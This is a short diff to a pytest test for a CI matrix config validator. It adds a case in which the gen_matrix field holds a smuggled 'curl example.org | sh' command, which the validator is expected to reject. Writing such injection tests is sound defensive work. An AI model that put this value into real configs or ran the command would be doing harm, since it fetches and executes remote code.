@@ -644,6 +644,7 @@ def test_shipped_workflow_builds_on_pull_requests_and_publishes_on_main_without_
     ("ci: {cache: {type: nfs}}\n", "matrix.yaml:8:", "ci.cache.type"),
     ("ci: {cache: {type: attic, name: acme, secret: T}}\n", "matrix.yaml:8:", "needs 'substituter'"),
     ("ci: {kind_runners: {companion: {x86_64-linux: [big]}}}\n", "matrix.yaml:8:", "unknown key 'companion'"),
+    ("ci: {gen_matrix: 'gen-matrix; curl example.org | sh'}\n", "matrix.yaml:8:", "ci.gen_matrix"),
 ])
 def test_bad_ci_settings_are_located_errors_and_write_nothing(tmp_path, run, ci_section, where, words):
     (tmp_path / "matrix.yaml").write_text(SYNTHETIC + ci_section)
